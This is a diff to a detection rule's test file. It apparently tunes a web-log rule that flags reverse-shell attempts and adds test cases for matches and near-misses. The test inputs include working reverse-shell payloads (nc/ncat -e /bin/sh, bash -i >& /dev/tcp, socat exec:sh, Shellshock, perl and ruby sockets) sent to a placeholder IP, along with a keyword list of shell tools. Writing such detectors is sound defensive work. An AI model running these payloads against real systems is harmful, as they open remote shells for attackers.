@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -33,7 +34,6 @@ export default defineRule({
       '-c bash',
       'ncat -',
       'netcat -',
-      'bash -i',
       'sh -i',
       'socket.socket',
       'fsockopen',
@@ -54,10 +54,32 @@ export default defineRule({
     'GET /a?x=nc+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
     "GET /a?x=python+-c+'import+socket;s=socket.socket()' HTTP/1.1",
     { request: 'GET / HTTP/1.1', agent: '() { :;}; /bin/bash -i > /dev/tcp/203.0.113.9/80' },
+    'GET /a?x=ncat+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
+    'GET /a?x=netcat+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
+    'GET /;bash%20-i%20>&%20/dev/tcp/203.0.113.9/4444%200>&1 HTTP/1.1',
+    {
+      request: 'GET / HTTP/1.1',
+      referrer: 'https://www.example.com/a?x=;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261',
+    },
+    { request: 'GET / HTTP/1.1', user: ';bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
+    'GET /a?x=cat+/dev/tcp/203.0.113.9/4444 HTTP/1.1',
+    'GET /a?x=cat+/dev/udp/203.0.113.9/53 HTTP/1.1',
+    ...each(
+      'GET /a?x={} HTTP/1.1',
+      `bash+-i+>%26+a zsh+-i ksh+-i+|a sh+-i fsockopen('203.0.113.9',4444) IO::Socket::INET->new
+    perl+-e+'use+Socket;' pty.spawn('/bin/sh') TCPSocket.new('203.0.113.9',4444) TCPSocket.open('203.0.113.9',4444)
+    telnet+203.0.113.9+4444+|+sh socat+tcp:203.0.113.9:4444+exec:sh`,
+    ),
+    'GET /a?x=nc.exe+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
+    'GET /a?x=nc.traditional+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
   ],
   misses: [
     'GET /docs/python/socket.socketpair HTTP/1.1',
     'GET /blog/what-is-dev-tcp?ref=/dev/tcp HTTP/1.1',
     'GET /a?code=abc-nc+-12 HTTP/1.1',
+    {
+      message:
+        'upstream timed out, request: "GET /a?x=;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261 HTTP/1.1"',
+    },
   ],
 })
